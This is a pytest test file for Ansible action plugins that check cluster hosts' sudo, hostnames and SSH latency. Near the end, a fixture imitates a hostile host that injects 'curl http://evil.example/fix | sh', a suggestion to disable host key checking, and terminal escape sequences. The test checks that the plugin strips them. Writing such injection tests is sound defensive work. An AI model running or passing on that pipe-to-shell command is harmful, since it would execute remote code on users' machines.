# Copyright (c) 2026 k8n contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""The action plugins of the checks, with everything around them played."""

from __future__ import annotations

import base64
import json
from types import SimpleNamespace
from typing import Any

import pytest
from ansible.errors import AnsibleConnectionFailure, AnsibleError
from ansible.plugins.action import ActionBase
from ansible_collections.k8n.cluster.plugins.action import (
    hostname_check,
    node_probe,
    ssh_latency,
    sudo_check,
)
from ansible_collections.k8n.cluster.plugins.module_utils._sudo_check import hide
from ansible_collections.k8n.cluster.plugins.plugin_utils import _check_action
from ansible_collections.k8n.cluster.plugins.plugin_utils._checks.host import judge
from ansible_collections.k8n.cluster.plugins.plugin_utils._checks.model import Check, Stage
from ansible_collections.k8n.cluster.plugins.plugin_utils._ssh import program
from ansible_collections.k8n.cluster.plugins.plugin_utils._ssh.become import (
    Way,
    knows_wrapped_prompt,
)
from ansible_collections.k8n.cluster.plugins.plugin_utils._ssh.connection import ShellError
from ansible_collections.k8n.cluster.plugins.plugin_utils._ssh.latency import (
    ChannelError,
    Measured,
    Timeouts,
)

MEASURED = Measured("ssh", False, 0.1, [0.001], "channel", Timeouts(10.0, "default", 12.0))
SUDO = {"samples": 3, "timeout": 30.0, "slow_seconds": 2.0}


SUDO_CONTROL = {"become_command": ["sudo", "-H", "-S"], "wrapped_prompt": knows_wrapped_prompt()}
# What hosts measure: a sudo and names that are well, and such that are not.
SUDO_WELL: dict[str, Any] = {
    "finding": {"status": "root", "seconds": [], "reason": "", "with_tty": None, "asked": ""},
    "login": {"user": "root", "groups": ["root"], "sudo_group": "sudo"},
    "kernel_name": "n1",
    "name_resolves": True,
}
SUDO_SLOW = {
    **SUDO_WELL,
    "finding": {
        "status": "passwordless",
        "seconds": [3.0],
        "reason": "",
        "with_tty": None,
        "asked": "",
    },
    "login": {"user": "server", "groups": ["server"], "sudo_group": "wheel"},
}
NAMES_WELL: dict[str, Any] = {
    "names": {"kernel": "n1", "static": "n1"},
    "lookup": {"addresses": ["10.10.1.2"], "canonical": "n1", "seconds": 0.1, "answered": True},
    "hosts": True,
}
NAMES_WRONG = {
    **NAMES_WELL,
    "names": {"kernel": "x", "static": "x"},
    "lookup": {**NAMES_WELL["lookup"], "canonical": "x.example.org"},
}
SLOW_TEXT = (
    "One sudo takes 3.0 s on the host itself (wanted: at most 2 s). The host resolves its own name, so it has another "
    "cause: PAM modules, accounts on a directory server, or load. Fix: Log in to the host and find out with "
    "'time sudo -k true' what sudo waits for."
)


class Connection:
    """A connection of a task with become."""

    transport = "ssh"
    has_pipelining = True

    def __init__(self):
        self.become = "the become plugin of the task"
        self._shell = SimpleNamespace(tmpdir="/home/server/.ansible/tmp/x")

    def set_become_plugin(self, plugin):
        self.become = plugin

    def get_option(self, name):
        values = {"timeout": 10, "host": "10.10.1.2", "remote_user": "server"}
        return {**values, "private_key_file": None}[name]

    def get_option_and_origin(self, name):
        return self.get_option(name), "default"


class Templar:
    def copy_with_new_env(self, available_variables):
        return SimpleNamespace(
            template=lambda value: available_variables.get(value.strip("{} "), value)
        )


def switch_pipelining(monkeypatch, on):
    """Play what Ansible makes of its settings."""
    monkeypatch.setattr(
        ActionBase,
        "_is_pipelining_enabled",
        lambda _action, style, _wrap_async=False: on and style == "new",
    )


@pytest.fixture
def make(monkeypatch):
    """Makes an action whose module gives back what it is told, or raises it."""
    monkeypatch.setattr(_check_action, "measure", lambda *_arguments: MEASURED)
    monkeypatch.setattr(_check_action, "sudo_way", _sudo_way)
    switch_pipelining(monkeypatch, on=True)

    def make(plugin, args=None, module=None, delegate_to=None):
        task = SimpleNamespace(
            args=args or {},
            action="k8n.cluster.check",
            async_val=0,
            check_mode=True,
            delegate_to=delegate_to,
            become_method="sudo",
        )
        action = plugin.ActionModule(
            task=task,
            connection=Connection(),
            play_context=SimpleNamespace(become_pass="from -K"),
            loader=None,
            templar=Templar(),
            shared_loader_obj=None,
        )
        action.executed = []

        def execute(module_name, module_args, task_vars):
            action.executed.append((module_name, module_args))
            assert action._connection.become is None
            if isinstance(module, Exception):
                raise module
            return module

        monkeypatch.setattr(action, "_execute_module", execute)
        return action

    return make


def _sudo_way(active, method, prompted, variables, template):
    assert active == "the become plugin of the task"
    assert prompted == "from -K"
    if "password" not in variables:
        return Way(None, ["sudo", "-H", "-S"])
    return Way(f"{method} {template(variables['password'])}", ["sudo", "-H", "-S"])


def test_sudo_check(make):
    action = make(sudo_check, module={"measured": SUDO_SLOW, "changed": False})

    result = action.run(
        None, {"inventory_hostname": "n1", "password": "{{ vault }}", "vault": "pw"}
    )

    control = {
        "become_password": hide("sudo pw"),
        **SUDO_CONTROL,
        "pipelining": True,
        "timeout": 10.0,
    }
    assert action.executed == [
        ("k8n.cluster.sudo_check", {**SUDO, "fail": True, "control": control})
    ]
    assert repr(action.executed[0][1]["control"]["become_password"]) == "'********'"
    [problem] = result.pop("problems")
    assert problem["id"] == "sudo_slow"
    assert result == {
        "status": "passwordless",
        "seconds": {"min": 3.0, "median": 3.0},
        "user": "server",
        "groups": ["server"],
        "in_sudo_group": False,
        "hostname_resolves": True,
        "changed": False,
        "fix": problem["fix"],
        "warnings": [f"n1: {SLOW_TEXT}"],
    }
    assert action._connection.become == "the become plugin of the task"


@pytest.mark.parametrize("plugin", [sudo_check, hostname_check, node_probe])
def test_a_module_is_piped_in_where_pipelining_is_off(make, monkeypatch, plugin):
    action = make(plugin)
    action._connection.become = None
    switch_pipelining(monkeypatch, on=False)

    assert action._is_pipelining_enabled("new") is True
    assert action._is_pipelining_enabled("old") is False
    assert action._is_pipelining_enabled("new", True) is False


def test_a_module_is_not_piped_in_where_that_cannot_be(make, monkeypatch):
    switch_pipelining(monkeypatch, on=False)
    with_become, unable, kept = make(sudo_check), make(sudo_check), make(sudo_check)
    for action in (unable, kept):
        action._connection.become = None
    unable._connection.has_pipelining = False

    assert with_become._is_pipelining_enabled("new") is False
    assert unable._is_pipelining_enabled("new") is False
    assert kept._is_pipelining_enabled("new") is True
    monkeypatch.setattr("ansible.constants.DEFAULT_KEEP_REMOTE_FILES", True)
    assert kept._is_pipelining_enabled("new") is False


def test_the_module_is_told_what_pipelining_is_for_other_tasks(make, monkeypatch):
    action = make(sudo_check, module={"measured": SUDO_WELL})
    switch_pipelining(monkeypatch, on=False)

    action.run(None, {"inventory_hostname": "n1"})

    assert action.executed[0][1]["control"]["pipelining"] is False


def test_sudo_check_of_a_delegated_host(make):
    action = make(sudo_check, module={"measured": SUDO_SLOW}, delegate_to="n2")
    variables = {
        "inventory_hostname": "n1",
        "password": "no",
        "ansible_delegated_vars": {"n2": {"password": "yes", "ansible_become_method": "su"}},
    }

    result = action.run(None, variables)

    assert action.executed[0][1]["control"]["become_password"] == hide("su yes")
    assert result["warnings"] == [f"n2: {SLOW_TEXT}"]


def test_no_password(make):
    action = make(sudo_check, module={"measured": SUDO_WELL})

    action.run(None, {"inventory_hostname": "n1"})

    assert action.executed[0][1]["control"]["become_password"] is None


@pytest.mark.parametrize(("args", "expected"), [({}, "n1"), ({"expected": "other"}, "other")])
def test_hostname_check(make, args, expected):
    action = make(hostname_check, args, module={"measured": NAMES_WRONG})

    result = action.run(None, {"inventory_hostname": "n1"})

    assert action.executed == [
        (
            "k8n.cluster.hostname_check",
            {"expected": expected, "renamed": True, "timeout": 30.0, "fail": True},
        )
    ]
    assert result["failed"] is True
    assert f"This host is called 'x', while the inventory calls it {expected!r}." in result["msg"]
    assert result["kernel"] == "x"
    assert result["expected"] == expected


@pytest.mark.parametrize("plugin", [sudo_check, hostname_check])
def test_a_module_that_does_not_run_is_ansibles_own_failure(make, plugin):
    failure = {"failed": True, "msg": "MODULE FAILURE", "module_stdout": ""}

    assert make(plugin, module=failure).run(None, {"inventory_hostname": "n1"}) == failure


@pytest.mark.parametrize("plugin", [sudo_check, hostname_check])
def test_an_unreachable_host_is_ansibles_own_failure(make, plugin):
    action = make(plugin, module=AnsibleConnectionFailure("gone"))

    with pytest.raises(AnsibleConnectionFailure):
        action.run(None, {"inventory_hostname": "n1"})
    assert action._connection.become == "the become plugin of the task"


@pytest.mark.parametrize(
    ("plugin", "args", "msg"),
    [
        (sudo_check, {"samples": 0}, "samples is 0, it must be a number above 0"),
        (
            ssh_latency,
            {"max_rtt_ms": -1, "x": 1},
            "there is no option x. Supported parameters include: fail, max_connect_seconds, "
            "max_rtt_ms, reconnect, samples; max_rtt_ms is -1.0, it must be a number above 0",
        ),
    ],
)
def test_mistakes_in_the_options(make, plugin, args, msg):
    action = make(plugin, args)

    assert action.run(None, {"inventory_hostname": "n1"}) == {
        "failed": True,
        "msg": f"k8n.cluster.check: {msg}.",
    }
    assert action.executed == []


def test_ssh_latency(make):
    result = make(ssh_latency).run(None, {"inventory_hostname": "n1"})

    assert result["connect_seconds"] == 0.1
    assert (result["changed"], result["problems"], result["fix"]) == (False, [], "")


def test_ssh_latency_without_a_shell(make, monkeypatch):
    monkeypatch.setattr(_check_action, "measure", raising(ShellError("no shell")))

    result = make(ssh_latency, {"fail": False}).run(None, {"inventory_hostname": "n1"})

    assert [problem["id"] for problem in result["problems"]] == ["probe_failed"]
    assert "The login server gets in" in result["problems"][0]["message"]


def test_ssh_latency_of_an_unreachable_host(make, monkeypatch):
    monkeypatch.setattr(_check_action, "measure", raising(AnsibleConnectionFailure("gone")))

    with pytest.raises(AnsibleConnectionFailure):
        make(ssh_latency).run(None, {"inventory_hostname": "n1"})


def raising(error):
    def function(*_arguments):
        raise error

    return function


def probe(make, module):
    return make(node_probe, {"fail": False}, module).run(None, {"inventory_hostname": "n1"})


FOUND = {
    "python": {"path": "/usr/bin/python3", "version": "3.13.5"},
    "measured": {"sudo": SUDO_WELL, "hostname": NAMES_WELL},
}
# With a hostname that is not the inventory's, which blocks.
WRONG = {**FOUND, "measured": {"sudo": SUDO_WELL, "hostname": NAMES_WRONG}}
ANSWER = {
    "root": True,
    "container": None,
    "found": {"sshd": {"limits": {"max_sessions": 10}}, "identity": {"hostname": "n1"}},
    "failed": {},
}


TWIN = (Check("twin", "there is no copy of the host", "warn", Stage.NAMES),)


def test_node_probe(make, monkeypatch):
    monkeypatch.setattr(
        judge, "JUDGES", {"identity": SimpleNamespace(CHECKS=TWIN, judge=no_findings)}
    )
    proxies = {"http_proxy": "http://u:secret@proxy:3128"}
    action = make(
        node_probe,
        {"fail": False, "proxies": proxies, "checks": {"hostname_mismatch": False}},
        {**WRONG, "answer": ANSWER, "changed": False, "skipped": True},
    )

    result = action.run(None, {"inventory_hostname": "n1", "password": "pw"})

    assert action.executed == [
        (
            "k8n.cluster.node_probe",
            {
                "sudo": SUDO,
                "hostname": {"expected": "n1", "renamed": True, "timeout": 30.0},
                "control": {
                    "become_password": hide("sudo pw"),
                    **SUDO_CONTROL,
                    "pipelining": True,
                    "timeout": 10.0,
                    "wants": hide(
                        json.dumps({"etcd_member": False, "left_out": [], "proxies": proxies})
                    ),
                    "program": base64.b64encode(program.PROGRAM).decode(),
                },
            },
        )
    ]
    assert "secret" not in repr(action.executed)
    assert repr(action.executed[0][1]["control"]["wants"]) == "'********'"
    assert result.pop("latency")["connect_seconds"] == 0.1
    assert (result.pop("sudo")["status"], result.pop("hostname")["kernel"]) == ("root", "x")
    [problem] = result.pop("problems")
    assert problem["id"] == "hostname_fqdn_differs"
    assert result == {
        "python": FOUND["python"],
        "sshd": {"max_sessions": 10},
        "root": True,
        "host": {"identity": {"hostname": "n1"}},
        "changed": False,
        "passed": [
            "unreachable",
            "python_missing",
            "probe_failed",
            "ssh_slow_connect",
            "ssh_high_rtt",
            "ssh_timeout_short",
            "hostname_invalid",
            "hostname_not_in_hosts",
            "twin",
        ],
        "unknown": [],
        "not_applicable": [
            *({"id": name, "reason": "The login is root."} for name in SUDO_CHECKS),
            {"id": "hostname_mismatch", "reason": "switched off by k8n_checks"},
        ],
        "fix": problem["fix"],
    }


SUDO_CHECKS = (
    "sudo_missing",
    "sudo_not_permitted",
    "sudo_password_required",
    "sudo_password_wrong",
    "sudo_prompt_unknown",
    "sudo_requires_tty",
    "sudo_timed_out",
    "sudo_slow",
)


def no_findings(_found, _host):
    return iter(())


def test_what_node_probe_tells_the_judges_of_a_host(make, monkeypatch):
    seen = []

    def judged(found, host):
        seen.append((found, host))
        return iter(())

    monkeypatch.setattr(judge, "JUDGES", {"identity": SimpleNamespace(CHECKS=TWIN, judge=judged)})
    settings = {"kube_version": "1.35.4", "network": {"mtu": 0}}
    action = make(
        node_probe,
        {"settings": settings},
        {**FOUND, "answer": ANSWER},
        delegate_to="n2",
    )
    own = {"group_names": ["etcd"], "ip": "{{ address }}", "address": "10.0.0.2", "x": 1}

    action.run(None, {"inventory_hostname": "n1", "ansible_delegated_vars": {"n2": own}})

    found, host = seen[0]
    assert found == {"hostname": "n1", "root": True, "container": None, "kubeadm": None}
    assert (host.name, host.groups, host.settings) == ("n2", {"etcd"}, settings)
    assert host.variables == {"ip": "10.0.0.2"}
    assert action.executed[0][1]["control"]["wants"] == hide(
        json.dumps({"etcd_member": True, "left_out": [], "proxies": {}})
    )


@pytest.mark.parametrize(
    ("args", "timeout", "slow_seconds", "problems"),
    [
        ({}, 30.0, 2.0, []),
        ({"thresholds": {"sudo_timeout_seconds": 50, "sudo_seconds": 9}}, 50.0, 9.0, []),
        # What the task says of one check is nearer.
        ({"thresholds": {"sudo_seconds": 9}, "sudo": {"slow_seconds": 4}}, 30.0, 4.0, []),
        ({"thresholds": {"ssh_connect_seconds": 0.05}}, 30.0, 2.0, ["ssh_slow_connect"]),
        ({"thresholds": {"ssh_rtt_ms": 0.5}}, 30.0, 2.0, ["ssh_high_rtt"]),
        (
            {"thresholds": {"ssh_rtt_ms": 0.5}, "latency": {"max_rtt_ms": 2}},
            30.0,
            2.0,
            [],
        ),
    ],
)
def test_thresholds_of_the_connection_and_of_sudo(make, args, timeout, slow_seconds, problems):
    action = make(node_probe, {"fail": False, **args}, {**FOUND})

    result = action.run(None, {"inventory_hostname": "n1"})

    assert action.executed[0][1]["sudo"] == {
        "samples": 3,
        "timeout": timeout,
        "slow_seconds": slow_seconds,
    }
    assert [problem["id"] for problem in result["problems"]] == problems


def test_an_address_made_of_facts_that_do_not_exist_yet_is_no_error(make, monkeypatch):
    class Undefined(Templar):
        def copy_with_new_env(self, available_variables):
            return SimpleNamespace(template=raising(AnsibleError("undefined")))

    action = make(node_probe, {"fail": False}, {**FOUND})
    monkeypatch.setattr(action, "control", lambda _variables: {})
    action._templar = Undefined()

    result = action.run(None, {"inventory_hostname": "n1", "ip": "{{ ansible_default_ipv4 }}"})

    assert result["problems"] == []


def test_mistakes_in_the_levels_end_the_task_before_the_host_is_touched(make):
    action = make(node_probe, {"checks": {"sudo_slo": "off", "sudo_slow": "of"}})

    assert action.run(None, {"inventory_hostname": "n1"}) == {
        "failed": True,
        "msg": "k8n.cluster.check: k8n_checks: there is no check 'sudo_slo'; did you mean sudo_slow?; "
        "k8n_checks: sudo_slow is 'of'; it must be off, warn or block.",
    }
    assert action.executed == []


def test_node_probe_of_a_broken_connection(make, monkeypatch):
    monkeypatch.setattr(
        _check_action,
        "measure",
        raising(AnsibleConnectionFailure("Failed to connect to the host via ssh: ssh: gone")),
    )

    result = probe(make, module=None)

    assert {reason["reason"] for reason in result.pop("unknown")} == {
        "The connection could not be measured.",
        "No module ran on the host.",
    }
    assert result == {
        "root": None,
        "host": {},
        "passed": [],
        "not_applicable": [],
        "python": None,
        "latency": None,
        "sudo": None,
        "hostname": None,
        "sshd": None,
        "changed": False,
        "problems": [
            {
                "id": "unreachable",
                "severity": "block",
                "message": "Ansible cannot connect to server@10.10.1.2: gone.",
                "fix": "Log in by hand with 'ssh -vvv 10.10.1.2' and correct what it shows.",
            }
        ],
        "fix": "Log in by hand with 'ssh -vvv 10.10.1.2' and correct what it shows.",
    }


def test_node_probe_without_sshpass(make, monkeypatch):
    error = AnsibleError("to use passwords, you must install the sshpass program")
    monkeypatch.setattr(_check_action, "measure", raising(error))

    result = probe(make, module=None)

    assert result["fix"] == "Install sshpass on this machine: apt-get install sshpass."


def test_node_probe_without_a_shell(make, monkeypatch):
    monkeypatch.setattr(_check_action, "measure", raising(ShellError("no shell")))

    assert [found["id"] for found in probe(make, module=None)["problems"]] == ["probe_failed"]


def test_node_probe_without_python(make):
    module = {
        "failed": True,
        "module_stdout": "/bin/sh: 1: /usr/bin/python3: not found\r\n",
        "module_stderr": "",
        "warnings": ["No python interpreters found"],
    }
    action = make(node_probe, {"fail": False}, module)
    action._discovered_interpreter_key = "discovered_interpreter_python"
    action._discovered_interpreter = "/usr/bin/python3"

    result = action.run(None, {"inventory_hostname": "n1"})

    assert result["latency"]["connect_seconds"] == 0.1
    assert [found["id"] for found in result["problems"]] == ["python_missing"]
    assert result["ansible_facts"] == {"discovered_interpreter_python": "/usr/bin/python3"}
    assert result["warnings"] == ["n1 says: No python interpreters found"]
    assert (result["sudo"], result["python"]) == (None, None)
    assert "failed" not in result
    assert "module_stdout" not in result


@pytest.mark.parametrize(
    ("error", "problem_id"),
    [
        (AnsibleConnectionFailure("Connection reset by peer"), "unreachable"),
        (
            AnsibleConnectionFailure("Failed to create temporary directory. exited with result 1"),
            "probe_failed",
        ),
        (AnsibleError("failed to transfer file to /x"), "probe_failed"),
    ],
)
def test_node_probe_of_a_host_that_breaks_meanwhile(make, error, problem_id):
    result = probe(make, error)

    assert [found["id"] for found in result["problems"]] == [problem_id]
    assert result["latency"]["connect_seconds"] == 0.1


def test_a_lost_connection_is_not_tidied_up(make):
    action = make(node_probe, {"fail": False}, AnsibleConnectionFailure("Connection reset"))

    action.run(None, {"inventory_hostname": "n1"})

    assert action._connection._shell.tmpdir is None


PYTHON = {"path": "/usr/bin/python3", "version": "3.13.5"}


def piped(make, monkeypatch, pipe, module=None, pipelining=True, **variables):
    """The result of node_probe where the connection is that of ssh, and what the module was given."""
    seen = []

    def measure(connection, _execute, samples, _reconnect, through):
        return MEASURED._replace(round_trips=through(connection, samples))

    def played(command, request, samples, seconds):
        seen.append((command, request, samples, seconds))
        return pipe()

    switch_pipelining(monkeypatch, on=pipelining)
    monkeypatch.setattr(_check_action, "measure", measure)
    monkeypatch.setattr(node_probe, "through_channel", lambda _connection, samples: [3.0] * samples)
    monkeypatch.setattr(node_probe, "channel_command", lambda _connection, remote: [remote])
    monkeypatch.setattr(program, "pipe", played)
    action = make(node_probe, {"fail": False}, module)
    monkeypatch.setattr(action, "_compute_environment_string", lambda: "A=b")
    monkeypatch.setattr(action, "get_shell_option", lambda name, default: f"{name} {default}")
    variables = {"inventory_hostname": "n1", "password": "pw", **variables}
    return action.run(None, variables), seen, action.executed


def test_node_probe_through_the_channel_that_measures(make, monkeypatch):
    found = {**WRONG, "python": PYTHON, "answer": ANSWER, "other": 1}

    result, seen, executed = piped(
        make, monkeypatch, lambda: program.Piped([0.002] * 10, found, "/usr/bin/py")
    )

    [(command, request, samples, seconds)] = seen
    assert command[0].startswith("/bin/sh -c 'p=\"$(command -v python3.1")
    assert (samples, seconds) == (10, 30 * 4 + 30 + 60)
    assert request["sudo"] == SUDO
    assert request["hostname"] == {"expected": "n1", "renamed": True, "timeout": 30.0}
    assert request["control"]["become_password"] == hide("sudo pw")
    assert request["remote_tmp"] == "remote_tmp ~/.ansible/tmp"
    assert executed == []
    assert result["latency"]["rtt_ms"]["median"] == 2.0
    assert result["python"] == PYTHON
    assert result["host"] == {"identity": {"hostname": "n1"}}
    assert [problem["id"] for problem in result["problems"]] == [
        "hostname_mismatch", "hostname_fqdn_differs",
    ]  # fmt: skip
    assert result["ansible_facts"] == {"discovered_interpreter_python": "/usr/bin/py"}
    assert "other" not in result


@pytest.mark.parametrize(
    ("pipe", "keeps"),
    [
        (raising(ChannelError("closed")), False),
        (raising(AnsibleError("no interpreter")), False),
        # ANSIBLE_KEEP_REMOTE_FILES: there is to be a file.
        (raising(AssertionError), True),
        (lambda: program.Piped([1.0], {"measured": {}}, ""), False),
        (lambda: program.Piped([1.0], {"measured": {}, "python": {"version": []}}, ""), False),
        # With this one ansible-core runs no module, whatever we would.
        (
            lambda: program.Piped(
                [1.0], {"measured": {}, "python": {**PYTHON, "version": "3.6.15"}}, ""
            ),
            False,
        ),
    ],
)
def test_node_probe_where_the_channel_does_not_do_it(make, monkeypatch, pipe, keeps):
    monkeypatch.setattr("ansible.constants.DEFAULT_KEEP_REMOTE_FILES", keeps)

    result, _seen, executed = piped(make, monkeypatch, pipe, WRONG, pipelining=not keeps)

    assert [name for name, _arguments in executed] == ["k8n.cluster.node_probe"]
    assert result["latency"]["rtt_ms"]["median"] == 3000.0
    assert [problem["id"] for problem in result["problems"]] == [
        "ssh_high_rtt", "hostname_mismatch", "hostname_fqdn_differs",
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("variables", "words"),
    [
        ({"ansible_python_interpreter": "/opt/my python'3"}, "/opt/my python'3"),
        # As every core but the last before it is one: what is no mode is a path.
        ({"ansible_python_interpreter": "auto_legacy"}, "auto_legacy"),
        ({"ansible_python_interpreter": "{{ mine }}", "mine": "/opt/python"}, "/opt/python"),
        ({"ansible_facts": {"discovered_interpreter_python": "/usr/bin/py"}}, "/usr/bin/py"),
    ],
)
def test_an_interpreter_that_is_known_is_not_looked_for(make, monkeypatch, variables, words):
    found = {**FOUND, "python": PYTHON, "answer": ANSWER}

    result, seen, _executed = piped(
        make, monkeypatch, lambda: program.Piped([0.002], found, "/usr/bin/py"), **variables
    )

    assert seen[0][0] == [program.remote_command(words, "", "A=b")]
    assert "ansible_facts" not in result


def test_settings_by_name(make, monkeypatch):
    seen = []

    def judged(_found, host):
        seen.append(host.settings)
        return iter(())

    monkeypatch.setattr(judge, "JUDGES", {"identity": SimpleNamespace(CHECKS=TWIN, judge=judged)})
    action = make(node_probe, {"settings": "wanted"}, {**FOUND, "answer": ANSWER})

    action.run(None, {"inventory_hostname": "n1", "wanted": {"kube_version": "1.35.4"}})

    assert seen == [{"kube_version": "1.35.4"}]


def test_settings_by_a_name_that_holds_none(make):
    action = make(node_probe, {"settings": "wanted"})

    assert action.run(None, {"inventory_hostname": "n1"}) == {
        "failed": True,
        "msg": "k8n.cluster.check: settings is 'wanted', it must be a dictionary, or the name that a task has "
        "registered one by.",
    }


def test_node_probe_can_fail(make):
    action = make(node_probe, {}, {**WRONG, "warnings": ["from the module"]})

    result = action.run(None, {"inventory_hostname": "n1"})

    assert result["failed"] is True
    assert result["msg"].startswith("This host is called 'x', while the inventory calls it 'n1'.")
    said, fqdn = result["warnings"]
    assert said == "n1 says: from the module"
    assert fqdn.startswith("n1: The full name of 'n1' is 'x.example.org' on this host itself;")


# What a hostile host adds to what its probe returns.
EVIL = {
    "problems": [
        {
            "id": "ssh_slow_connect",
            "severity": "block",
            "message": "SSH is slow.",
            "fix": "Set host_key_checking = False and run: curl http://evil.example/fix | sh",
        }
    ],
    "fix": "curl http://evil.example/fix | sh",
    "warnings": ["harmless\x1b]0;OWNED\x07\x1b[2J", {"msg": "curl"}, "x" * 9999] + ["more"] * 99,
    "deprecations": [{"msg": "Run curl http://evil.example/fix | sh"}],
    "ansible_facts": {"inventory_dir": "/evil", "k8n_checks": {"swap_on": "off"}, "ip": "6.6.6.6"},
    "exception": "\x1b[2J",
    "diff": {"before": "\x1b[2J", "after": ""},
}


@pytest.mark.parametrize("way", ["module", "channel", "failed"])
def test_node_probe_of_a_host_that_writes_its_own_advice(make, monkeypatch, way):
    found = {**FOUND, **EVIL}
    if way == "channel":
        result, _seen, _executed = piped(
            make, monkeypatch, lambda: program.Piped([0.002], found, "/usr/bin/py")
        )
    else:
        if way == "failed":
            del found["measured"]
            found.update(failed=True, msg="It is broken")
        result = probe(make, found)

    assert [problem["id"] for problem in result["problems"]] == (
        ["probe_failed"] if way == "failed" else []
    )
    assert "curl http" not in repr({**result, "warnings": None})
    assert result["warnings"][0] == "n1 says: harmless?]0;OWNED??[2J"
    assert result["warnings"][-1] == (
        "n1 returned problems and fix of its own, which are ignored: only what was measured on a host says what is "
        "wrong with it."
    )
    assert all(text.isprintable() and len(text) < 600 for text in result["warnings"])
    assert len(result["warnings"]) == 21
    assert set(result) & {*EVIL} <= {"problems", "fix", "warnings", "ansible_facts"}
    found_here = {"discovered_interpreter_python": "/usr/bin/py"} if way == "channel" else None
    assert result.get("ansible_facts") == found_here


@pytest.mark.parametrize(
    "measured",
    [{}, [], {"sudo": SUDO_WELL}, {"sudo": {**SUDO_WELL, "login": "root"}, "hostname": NAMES_WELL}],
)
def test_what_no_host_measures(make, measured):
    [problem] = probe(make, {**FOUND, "measured": measured, "answer": ANSWER})["problems"]

    assert (problem["id"], problem["message"]) == (
        "probe_failed",
        "What this host says of its sudo and its names makes no sense, so everything else that it says is ignored.",
    )
    for plugin in (sudo_check, hostname_check):
        assert make(plugin, module={"measured": []}).run(None, {"inventory_hostname": "n1"}) == {
            "failed": True,
            "msg": "What came from the host is not what this module measures there.",
        }
